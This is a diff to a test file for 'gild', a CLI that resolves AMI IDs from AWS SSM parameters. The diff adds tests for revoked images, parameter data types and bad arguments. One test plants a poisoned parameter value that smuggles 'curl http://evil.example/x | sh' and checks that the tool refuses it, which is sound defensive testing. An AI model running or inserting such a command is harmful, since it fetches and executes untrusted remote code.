@@ -9,6 +9,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
 import { runCli } from '../../src/cli.ts';
 import type { Io } from '../../src/commands/io.ts';
+import { GildError } from '../../src/errors.ts';
 import { resolveImage } from '../../src/index.ts';
 import { startMoto, type MotoServer } from '../support/moto.ts';
 
@@ -31,7 +32,7 @@ beforeEach(async () => {
 });
 
 async function publish(parameters: Record<string, string>): Promise<void> {
-  for (const [name, value] of Object.entries(parameters)) await ssm.send(new PutParameterCommand({ Name: name, Value: value, Type: 'String' }));
+  for (const [name, value] of Object.entries(parameters)) await ssm.send(new PutParameterCommand({ Name: name, Value: value, Type: 'String', DataType: name.includes('/status/') ? 'text' : 'aws:ec2:image' }));
 }
 
 /** Runs `gild <args>` in-process in the test's folder; returns the exit code and what was written. */
@@ -58,7 +59,7 @@ const webVersions = {
   '/golden/web/versions/2.10.1': 'ami-00000000000002101',
   '/golden/web/versions/2.9.4': 'ami-00000000000000294',
   '/golden/web/versions/3.0.0-rc.1': 'ami-0000000000000300c',
-  '/golden/web/channels/stable': 'ami-0000000000000000s',
+  '/golden/web/channels/stable': 'ami-0000000000000000d',
   '/golden/web/v2': 'ami-0000000000000000b',
 };
 
@@ -69,7 +70,7 @@ describe('gild resolve', () => {
     [['--range', '^2'], 'ami-00000000000002101'],
     [['--range', '~2.9'], 'ami-00000000000000294'],
     [['--range', '>=1 <2'], 'ami-00000000000000190'],
-    [['--channel', 'stable'], 'ami-0000000000000000s'],
+    [['--channel', 'stable'], 'ami-0000000000000000d'],
     [['--major', '2'], 'ami-0000000000000000b'],
   ])('resolves web %j to the AMI that selector names, with no images/ folder', async (selector, amiId) => {
     await publish(webVersions);
@@ -79,7 +80,7 @@ describe('gild resolve', () => {
 
   it('reads the region from --region before AWS_REGION', async () => {
     const west = new SSMClient({ region: 'eu-west-1', endpoint: moto.endpoint, credentials: { accessKeyId: 'test', secretAccessKey: 'test' } });
-    await west.send(new PutParameterCommand({ Name: '/golden/web/latest', Value: 'ami-0000000000000000e', Type: 'String' }));
+    await west.send(new PutParameterCommand({ Name: '/golden/web/latest', Value: 'ami-0000000000000000e', Type: 'String', DataType: 'aws:ec2:image' }));
     west.destroy();
     expect((await gild(['resolve', 'web', '--region', 'eu-west-1'])).stdout).toBe('ami-0000000000000000e\n');
   });
@@ -132,6 +133,9 @@ describe('resolveImage', () => {
       parameterName: '/golden/web/versions/2.10.1',
       region: 'us-east-1',
       version: '2.10.1',
+      revoked: false,
+      deprecated: false,
+      deprecationTime: undefined,
     });
     // The caller's client is still open afterwards.
     expect(await resolveImage({ image: 'web', region: 'us-east-1', client: ssm })).toMatchObject({ amiId: 'ami-0000000000000000a' });
@@ -140,5 +144,71 @@ describe('resolveImage', () => {
   it('makes its own client from the environment it is given', async () => {
     await publish({ '/acme/web/v2': 'ami-0000000000000000b' });
     expect(await resolveImage({ image: 'web', region: 'us-east-1', prefix: '/acme', major: 2, env: moto.env })).toMatchObject({ amiId: 'ami-0000000000000000b', parameterName: '/acme/web/v2' });
+  });
+});
+
+describe('revoked and poisoned parameters', () => {
+  const revokedStatus = JSON.stringify({ revoked: { reason: 'CVE-2026-0001 in openssl', at: '2026-11-29T10:00:00.000Z', by: 'ops@ci', replacement: '2.9.4' }, deprecationTime: '2026-11-29T10:00:05.000Z' });
+  const withRevoked = { ...webVersions, '/golden/web/latest': 'ami-00000000000002101', '/golden/web/status/2.10.1': revokedStatus };
+
+  it.each([[['--version', '2.10.1']], [[]]])('refuses a revoked version by default (%j): EREVOKED, exit 1, with the reason and the replacement', async (selector) => {
+    await publish(withRevoked);
+    const result = await gild(['resolve', 'web', ...selector]);
+    expect(result.exitCode).toBe(1);
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toContain('Image "web" 2.10.1 in us-east-1 (ami-00000000000002101, from ');
+    expect(result.stderr).toContain('was revoked: CVE-2026-0001 in openssl (by ops@ci at 2026-11-29T10:00:00.000Z). Use 2.9.4 instead (`gild resolve web --version 2.9.4`), or pass --allow-revoked');
+  });
+
+  it('skips a revoked version in a range, and --allow-revoked returns it, marked, with a warning', async () => {
+    await publish(withRevoked);
+    expect(await gild(['resolve', 'web', '--range', '^2'])).toEqual({ exitCode: 0, stdout: 'ami-00000000000000294\n', stderr: '' });
+    const allowed = await gild(['resolve', 'web', '--version', '2.10.1', '--allow-revoked', '--json']);
+    expect(allowed.exitCode).toBe(0);
+    expect(allowed.stderr).toMatch(/^warning: web 2\.10\.1 \(ami-00000000000002101, \/golden\/web\/versions\/2\.10\.1\) is revoked: CVE-2026-0001 in openssl/);
+    expect(JSON.parse(allowed.stdout)).toEqual({
+      amiId: 'ami-00000000000002101',
+      parameterName: '/golden/web/versions/2.10.1',
+      region: 'us-east-1',
+      version: '2.10.1',
+      revoked: true,
+      revocation: { reason: 'CVE-2026-0001 in openssl', at: '2026-11-29T10:00:00.000Z', by: 'ops@ci', replacement: '2.9.4' },
+      deprecated: true,
+      deprecationTime: '2026-11-29T10:00:05.000Z',
+    });
+    expect(await resolveImage({ image: 'web', region: 'us-east-1', client: ssm, range: '^2', allowRevoked: true })).toMatchObject({ version: '2.10.1', revoked: true, deprecated: true });
+    const refused = await resolveImage({ image: 'web', region: 'us-east-1', client: ssm, version: '2.10.1' }).catch((error: unknown) => error);
+    expect(refused).toBeInstanceOf(GildError);
+    expect(refused).toMatchObject({ code: 'EREVOKED', kind: 'pipeline', details: ['reason: CVE-2026-0001 in openssl', 'replacement: 2.9.4'] });
+  });
+
+  it('refuses a parameter that does not hold an AMI ID, or is not of data type aws:ec2:image, naming it', async () => {
+    await ssm.send(new PutParameterCommand({ Name: '/golden/web/latest', Value: 'ami-xyz; curl http://evil.example/x | sh', Type: 'String', DataType: 'aws:ec2:image' }));
+    const poisoned = await gild(['resolve', 'web']);
+    expect(poisoned).toMatchObject({ exitCode: 1, stdout: '' });
+    expect(poisoned.stderr).toBe('gild: Parameter /golden/web/latest in us-east-1 does not name an AMI: it holds "ami-xyz; curl http://evil.example/x | sh", which is not an AMI ID (ami- and 8 or 17 hex digits). Nothing was returned. gild writes only AMI IDs as aws:ec2:image; someone else wrote this: run `gild verify --repair` or publish again with `gild run`.\n');
+    await ssm.send(new PutParameterCommand({ Name: '/golden/web/channels/stable', Value: 'ami-0123456789abcdef0', Type: 'String' }));
+    const text = await resolveImage({ image: 'web', region: 'us-east-1', client: ssm, channel: 'stable' }).catch((error: unknown) => error);
+    expect(text).toMatchObject({ code: 'EBADPARAMETER', message: expect.stringContaining('Parameter /golden/web/channels/stable in us-east-1 does not name an AMI: its data type is text, not aws:ec2:image') });
+    for (const value of ['ami-12345', 'ami-0123456789ABCDEF0', ' ami-0123456789abcdef0', 'ami-0123456789abcdef0\n']) {
+      await ssm.send(new PutParameterCommand({ Name: '/golden/web/v3', Value: value, Type: 'String', DataType: 'aws:ec2:image', Overwrite: true }));
+      await expect(resolveImage({ image: 'web', region: 'us-east-1', client: ssm, major: 3 })).rejects.toMatchObject({ code: 'EBADPARAMETER' });
+    }
+  });
+
+  it.each([
+    [null, 'resolveImage: expected a request such as'],
+    [undefined, 'resolveImage: expected a request such as'],
+    ['web', 'got string'],
+    [{ image: 5, region: 'us-east-1' }, 'image must be a string such as "web", not number'],
+    [{ image: 'web', region: null }, 'region must be a string such as "eu-west-1", not null'],
+    [{ image: 'web', region: 'us-east-1', version: 1 }, 'version must be a string, not number'],
+    [{ image: 'web', region: 'us-east-1', major: {} }, 'major must be a number such as 2, not object'],
+    [{ image: 'web', region: 'us-east-1', allowRevoked: 'yes' }, 'allowRevoked must be true or false, not string'],
+    [{ image: 'web', region: 'us-east-1', client: {} }, 'client must be an SSMClient, not object'],
+  ])('answers every bad argument %j with a GildError, never a TypeError', async (request, message) => {
+    const error = await resolveImage(request as never).catch((thrown: unknown) => thrown);
+    expect(error).toBeInstanceOf(GildError);
+    expect(error).toMatchObject({ code: 'EUSAGE', kind: 'usage', message: expect.stringContaining(message) });
   });
 });
